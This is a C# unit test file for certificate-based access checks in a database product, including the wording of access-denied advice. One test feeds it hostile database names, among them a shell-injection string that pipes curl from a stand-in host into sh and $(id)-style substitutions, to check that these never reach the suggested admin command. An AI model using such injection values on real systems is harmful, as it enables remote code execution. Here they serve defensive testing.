using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using Jackdaw.Documents.Callers;
using Jackdaw.Security.Callers;
using Jackdaw.Security.Certificates;
using Jackdaw.TestKit;

namespace Jackdaw.Security.Tests.Certificates;

public sealed class CertificateCallerTests : IDisposable
{
    private static readonly Grants s_reader = new(Clearance.ValidUser, [new("Orders", DatabasePermission.Read)]);

    private readonly SampleAuthority _authority = new("our CA");
    private readonly ManualTime _time = new();
    private readonly CertificateRegistry _registry;

    public CertificateCallerTests()
    {
        _time.Advance(SampleAuthority.Start.AddYears(5) - DateTimeOffset.UnixEpoch);
        _registry = new CertificateRegistry(CertificateList.Empty, _ => { }, _time) { Authorities = () => [_authority.Certificate] };
    }

    public void Dispose() => _authority.Dispose();

    [Fact]
    public void May_EntryThatChanges_FollowsItAtOnce()
    {
        using X509Certificate2 ann = _authority.Issue("ann");
        var caller = new CertificateCaller(PresentedCertificate.From(ann), _registry, _time);
        Assert.False(caller.May(Access.ValidUser, ""));
        Assert.True(caller.May(Access.Anonymous, ""));
        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
        Assert.True(caller.May(Access.Read, "orders"));
        Assert.False(caller.May(Access.ReadWrite, "orders"));
        _registry.Edit(ann.Thumbprint, "Ann", new Grants(Clearance.Operator));
        Assert.True(caller.May(Access.Operator, ""));
        _registry.Delete(ann.Thumbprint);
        Assert.False(caller.May(Access.ValidUser, ""));
        Assert.Null(caller.Known);
    }

    [Fact]
    public void May_ClockThatJumpsOverTheExpiry_EndsAndComesBack()
    {
        DateTimeOffset now = _time.GetUtcNow();
        using X509Certificate2 ann = _authority.Issue("ann", null, now.AddDays(-1), now.AddDays(1));
        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
        var caller = new CertificateCaller(PresentedCertificate.From(ann), _registry, _time);
        Assert.True(caller.May(Access.Read, "Orders"));
        _time.Advance(TimeSpan.FromDays(2));
        Assert.False(caller.May(Access.Read, "Orders"));
        Assert.False(caller.May(Access.ValidUser, ""));
    }

    [Fact]
    public void Demand_TooFewGrants_NamesTheCertificateAndTheCommand()
    {
        using X509Certificate2 ann = _authority.Issue("ann");
        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
        AssertRefused(
            ann, Access.ReadWrite, "Orders",
            $"PUT /docs needs the access ReadWrite to database 'Orders', which certificate 'Ann' (thumbprint {ann.Thumbprint}) with the clearance ValidUser "
            + "does not have. A cluster administrator grants it with: "
            + $"jackdaw cert edit {ann.Thumbprint} --clearance=ValidUser --database=Orders:ReadWrite");
        AssertRefused(ann, Access.Operator, "", $"needs the access Operator, which certificate 'Ann'", "--clearance=Operator");
        AssertRefused(ann, Access.ClusterAdmin, "", "--clearance=ClusterAdmin");
        AssertRefused(ann, Access.Node, "", "Only another server of the cluster has it.");
    }

    /// <summary>The advice is copied into shells of administrators, and the name may be a stranger's.</summary>
    [Theory]
    [InlineData("x';curl evil.example|sh;'")]
    [InlineData("x$(id)")]
    [InlineData("x y")]
    [InlineData("x\ny")]
    [InlineData("-x`id`")]
    [InlineData("täglich")]
    public void Demand_NameThatNoDatabaseCanHave_IsNotInTheAdvisedCommand(string name)
    {
        using X509Certificate2 ann = _authority.Issue("ann"), eve = _authority.Issue("eve");
        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
        AssertRefused(ann, Access.Read, name, $"jackdaw cert edit {ann.Thumbprint} --clearance=ValidUser --database=NAME:Read");
        AssertRefused(eve, Access.Read, name, "--clearance=ValidUser --database=NAME:Read");
    }

    /// <summary>The list knows the certificate that was renewed.</summary>
    [Fact]
    public void Demand_RenewedCertificate_AdvisesToEditTheEntry()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using X509Certificate2 ann = _authority.Issue("ann", key), renewed = _authority.Issue("ann", key);
        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
        AssertRefused(renewed, Access.Admin, "Orders", $"jackdaw cert edit {ann.Thumbprint} ");
    }

    [Fact]
    public void Demand_ExpiredOrNotYetValid_SaysWhen()
    {
        DateTimeOffset now = _time.GetUtcNow();
        using X509Certificate2 over = _authority.Issue("over", null, now.AddDays(-2), now.AddDays(-1));
        using X509Certificate2 early = _authority.Issue("early", null, now.AddDays(1), now.AddDays(2));
        _registry.Put(KnownCertificate.From(over, "Over", s_reader));
        _registry.Put(KnownCertificate.From(early, "Early", s_reader));
        AssertRefused(
            over, Access.Read, "Orders", $"'Over' (thumbprint {over.Thumbprint}) expired on {now.AddDays(-1):yyyy-MM-dd}",
            $"jackdaw cert renew {over.Thumbprint}");
        AssertRefused(early, Access.Read, "Orders", $"'Early' (thumbprint {early.Thumbprint}) is valid only from {now.AddDays(1):yyyy-MM-dd}");
    }

    [Fact]
    public void Demand_UnknownRevokedOrOfAnotherIssuer_SaysSo()
    {
        using var other = new SampleAuthority("another CA");
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using X509Certificate2 ann = _authority.Issue("ann", key), elsewhere = other.Issue("ann", key), stranger = other.Issue("eve");
        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
        AssertRefused(stranger, Access.Read, "Orders", $"does not know the certificate 'CN=eve' (thumbprint {stranger.Thumbprint}, issued by 'CN=another CA')");
        AssertRefused(elsewhere, Access.Read, "Orders", $"has the key of 'Ann' (thumbprint {ann.Thumbprint}), but another issuer ('CN=another CA')");
        _registry.Delete(ann.Thumbprint);
        AssertRefused(ann, Access.Read, "Orders", $"'Ann' (thumbprint {ann.Thumbprint}) was revoked on {_time.GetUtcNow():yyyy-MM-dd}");
    }

    [Fact]
    public void Demand_SubjectThatIsLongOrHasControlCharacters_IsShownShort()
    {
        using X509Certificate2 eve = SampleAuthority.Forge("\"eve\n" + new string('x', 10_000) + "\"", "eve");
        AccessDeniedException refused = Assert.Throws<AccessDeniedException>(
            () => new CertificateCaller(PresentedCertificate.From(eve), _registry, _time).Demand(Access.Read, "Orders", "GET /docs"));
        Assert.DoesNotContain('\n', refused.Message);
        Assert.InRange(refused.Message.Length, 1, 1_000);
    }

    private void AssertRefused(X509Certificate2 certificate, Access access, string database, params string[] parts)
    {
        var caller = new CertificateCaller(PresentedCertificate.From(certificate), _registry, _time);
        AccessDeniedException refused = Assert.Throws<AccessDeniedException>(() => caller.Demand(access, database, "PUT /docs"));
        Assert.All(parts, part => Assert.Contains(part, refused.Message, StringComparison.Ordinal));
    }
}
